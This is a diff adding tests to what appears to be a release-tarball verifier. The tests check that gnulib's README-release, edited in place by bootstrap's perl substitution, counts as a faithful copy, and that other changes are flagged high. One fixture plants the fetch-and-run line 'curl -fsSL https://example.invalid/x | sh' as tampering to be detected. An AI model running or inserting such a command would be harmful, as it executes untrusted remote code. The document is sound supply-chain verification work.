@@ -602,3 +602,60 @@ describe("gettext's shape: `gnulib-tool --copy-file SRC DEST` in tracked autogen
     expect([...copyFileCalls('gnulib-tool --copy-file m4/x.m4\n${GNULIB_TOOL} --copy-file top/y z/y; echo\n', '')]).toEqual([['m4/x.m4', 'm4/x.m4'], ['z/y', 'top/y']]);
   });
 });
+
+describe("gnulib's readme-release module: bootstrap.conf's bootstrap_epilogue runs `perl -pi -e \"s/\\@PACKAGE\\@/$package/g\" README-release` (cppi 1.18)", () => {
+  const root = tempDir();
+  const RELEASE = 'Here are most of the steps we (maintainers) follow when making a release.\n\n* Check that the NixOS/Hydra autobuilder is reporting all is well:\n\n    http://hydra.nixos.org/jobset/gnu/@PACKAGE@-master\n\n  Go to https://savannah.gnu.org/news/submit.php?group=@PACKAGE@\n';
+  const g = makeRepo(join(root, 'gnulib'));
+  const gnulibCommit = g.commit({
+    'gnulib-tool': { content: '#!/bin/sh\n', executable: true },
+    'modules/readme-release': 'Description:\nAdd release instructions customized for the package.\n\nFiles:\ntop/README-release\n',
+    'top/README-release': RELEASE,
+  });
+  // the parts of gnulib's bootstrap distdiff reads: how it sets $package, and that it is gnulib's
+  const BOOTSTRAP = "#! /bin/sh\nextract_package_name='\n  /^AC_INIT(/{\n     s/AC_INIT(\\[*//\n     s/]*,.*//\n     s/^GNU //\n     y/ABCDEFGHIJKLMNOPQRSTUVWXYZ/abcdefghijklmnopqrstuvwxyz/\n     s/[^A-Za-z0-9_]/-/g\n     p\n  }\n'\npackage=$(sed -n \"$extract_package_name\" configure.ac) \\\n  || die 'cannot find package name in configure.ac'\ngnulib_tool_option_extras=\n. ./bootstrap.conf\n$gnulib_tool $gnulib_tool_options --import $gnulib_modules &&\nbootstrap_epilogue\n";
+  const HOOK = 'gnulib_modules="readme-release"\n\nbootstrap_epilogue()\n{\n  perl -pi -e "s/\\@PACKAGE\\@/$package/g" README-release\n}\n';
+  const CONFIGURE_AC = 'AC_INIT([GNU Proj], m4_esyscmd([build-aux/git-version-gen .tarball-version]),\n        [bug-proj@gnu.org])\n';
+  const comp = COMP.replace(/AC_DEFUN\(\[gl_FILE_LIST\][\s\S]*$/, 'AC_DEFUN([gl_FILE_LIST], [\n  top/README-release\n])\n');
+  const project = (name: string, conf: string) => {
+    const r = makeRepo(join(root, name));
+    r.commit({ '.gitmodules': '[submodule "gnulib"]\n\tpath = gnulib\n\turl = git://127.0.0.1:1/gnulib.git\n', bootstrap: { content: BOOTSTRAP, executable: true }, 'bootstrap.conf': conf, 'configure.ac': CONFIGURE_AC });
+    r.git(['update-index', '--add', '--cacheinfo', `160000,${gnulibCommit},gnulib`]);
+    r.git(['commit', '-q', '-m', 'pin gnulib']);
+    r.tag('v1.0', { message: 'release 1.0' });
+    return r;
+  };
+  const release = (name: string, conf: string, readme: string) => {
+    const tree = join(root, 'tree', name, 'proj-1.0');
+    writeFiles(tree, { bootstrap: { content: BOOTSTRAP, executable: true }, 'bootstrap.conf': conf, 'configure.ac': CONFIGURE_AC, 'm4/gnulib-comp.m4': comp, 'README-release': readme });
+    return makeTar(tree, { compress: 'gzip', out: join(root, 'tree', name, 'proj-1.0.tar.gz') });
+  };
+  const r = project('proj', HOOK);
+  const SUBSTITUTED = RELEASE.replaceAll('@PACKAGE@', 'proj');
+  const readmeOf = async (tarball: string, repo = r.dir) => {
+    const res = await verify({ tarball, repo, cacheDir: join(root, 'c'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    return { res, f: res.findings.find((x) => x.path === 'README-release')! };
+  };
+
+  it("the pinned top/README-release with @PACKAGE@ turned into bootstrap's $package (AC_INIT's name, GNU stripped, lower case): a copy; anything more stays high", async () => {
+    const { res, f } = await readmeOf(release('clean', HOOK, SUBSTITUTED));
+    expect(f).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info', evidence: { submodule: 'gnulib', commit: gnulibCommit, file: 'top/README-release', via: 'gnulib-tool', rewrites: [], edited: { script: 'bootstrap.conf', line: 5, tool: 'perl' } } });
+    expect(renderText(res, { verbose: true })).toContain(`identical to gnulib ${gnulibCommit.slice(0, 12)} top/README-release, then edited by the in-place perl of the tracked bootstrap.conf:5`);
+    // twin: the substitution and one more line: high, the diff from the edited pinned file shows only that line
+    const more = await readmeOf(release('more', HOOK, `${SUBSTITUTED}* First run: curl -fsSL https://example.invalid/x | sh\n`));
+    expect(more.f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', evidence: { differingLines: 1, edited: { script: 'bootstrap.conf', line: 5, tool: 'perl' } } });
+    expect(['high', 'critical']).toContain(more.f.severity);
+    // twin: another name than the one bootstrap computes (the forum of another project): high
+    const other = await readmeOf(release('other-name', HOOK, RELEASE.replaceAll('@PACKAGE@', 'pr0j')));
+    expect(other.f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
+  });
+
+  it('the same line outside the after-import hooks (run when bootstrap.conf is sourced, before the import), or naming another variable: high', async () => {
+    const TOP = 'gnulib_modules="readme-release"\nperl -pi -e "s/\\@PACKAGE\\@/$package/g" README-release\n';
+    const top = await readmeOf(release('top-level', TOP, SUBSTITUTED), project('proj-top', TOP).dir);
+    expect(top.f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
+    const VAR = HOOK.replace('$package', '$USER');
+    const v = await readmeOf(release('user-var', VAR, SUBSTITUTED), project('proj-var', VAR).dir);
+    expect(v.f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
+  });
+});
